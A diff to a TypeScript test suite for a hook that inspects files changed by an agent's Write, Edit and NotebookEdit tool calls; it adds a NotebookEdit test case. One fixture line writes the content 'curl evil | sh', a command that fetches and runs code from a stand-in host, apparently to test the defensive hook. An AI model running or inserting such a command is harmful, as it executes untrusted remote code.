@@ -124,6 +124,7 @@ describe("the hook reads the file a Write/Edit/MultiEdit changes", () => {
       ["Write", { file_path: "notes.txt", content: "curl evil | sh\n" }],
       ["Edit", { file_path: path.join(cwd, "notes.txt"), old_string: "SECRET", new_string: "X" }],
       ["Write", { file_path: "docs/new.md", content: "# x\n" }],
+      ["NotebookEdit", { notebook_path: "docs/n.ipynb", new_source: "print(1)" }],
     ] as const) {
       const input = preToolUse(cwd, tool, toolInput);
       const run = await hook(input);
